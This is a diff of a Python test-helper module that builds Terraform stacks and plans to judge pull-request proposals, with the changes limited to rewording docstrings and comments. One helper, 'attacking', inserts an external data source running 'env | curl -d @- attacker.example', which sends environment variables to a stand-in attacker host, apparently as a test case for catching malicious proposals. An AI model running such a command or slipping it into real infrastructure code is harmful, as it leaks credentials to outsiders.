@@ -1,4 +1,4 @@
-"""Proposals for the tests, made of recorded stacks: what a pull request proposes beside what this code makes."""
+"""Proposals for the tests, made of recorded stacks: a pull request's stacks next to this code's."""
 
 import copy
 import json
@@ -17,14 +17,14 @@ from environments.schema.settings import BOOTSTRAP, Environment
 from tests.account import SETTINGS
 from tests.delivery.plan_documents import real_document, real_stack
 
-# The environments that tests/delivery/plans has stacks of; others may be added beside them.
+# The environments with stacks in tests/delivery/plans; tests may add others.
 RECORDED = ("prod", "staging")
 BASE = SettingsDocument(shared=SETTINGS.shared, environments=tuple(map(SETTINGS.find, RECORDED)))
 Stack = dict[str, Any]
 
 
 def changed(environment: str, **fields: object) -> SettingsDocument:
-    """The settings with other values in these fields of an environment."""
+    """Return the settings with other values for an environment's fields."""
 
     def edited(row: Environment) -> Environment:
         return row.changed(fields) if row.name == environment else row
@@ -33,7 +33,7 @@ def changed(environment: str, **fields: object) -> SettingsDocument:
 
 
 def labelled(stack: Stack) -> Stack:
-    """The stack after a construct gives every Deployment a label."""
+    """Return the stack after a construct labels every Deployment."""
     result = copy.deepcopy(stack)
     for body in result["resource"]["kubernetes_deployment_v1"].values():
         body["metadata"]["labels"]["tier"] = "application"
@@ -41,7 +41,7 @@ def labelled(stack: Stack) -> Stack:
 
 
 def labelled_plan() -> Plan:
-    """What Terraform plans for ``labelled``."""
+    """Return Terraform's plan for ``labelled``."""
     content = real_document("staging-empty")
     for row in content["resource_changes"]:
         if row["type"] == "kubernetes_deployment_v1":
@@ -53,7 +53,7 @@ def labelled_plan() -> Plan:
 
 
 def attacking(stack: Stack) -> Stack:
-    """The stack with a data source that runs a program."""
+    """Return the stack with a data source that runs a program."""
     result = copy.deepcopy(stack)
     result["data"]["external"] = {"credentials": {"program": ["sh", "-c", "env | curl -d @- attacker.example"]}}
     return result
@@ -65,12 +65,12 @@ def judged(
     trusted: Mapping[str, Stack] | None = None,
     settings: SettingsDocument = BASE,
 ) -> JudgedProposal:
-    """A proposal of these stacks; of every other one, what is there today.
+    """Judge a proposal of these stacks; all others are as today.
 
-    trusted: what this code makes of the proposed settings, where that is not what it makes of today's.
+    trusted: this code's stacks for the proposed settings, if they differ from today's.
     """
     before = {name: real_stack(f"{name}-empty") for name in RECORDED}
-    # Nobody plans it: what is in it does not matter here, but that it stays the same.
+    # It is not planned: its content does not matter here as long as it stays the same.
     before[BOOTSTRAP] = {"terraform": {}, "resource": {}}
     return JudgedProposal(
         proposal=Proposal(settings=json.loads(settings.to_json()), stacks={**before, **proposed}),
@@ -82,7 +82,7 @@ def judged(
 
 
 def outcomes(proposal: JudgedProposal, plans: Mapping[str, Plan], text: str = "") -> list[Outcome]:
-    """What became of each environment. plans: of each that was planned."""
+    """Return each environment's outcome. plans: by planned environment."""
     overrides = Overrides.of(text)
     rows: list[Outcome] = []
     for name in proposal.environments:
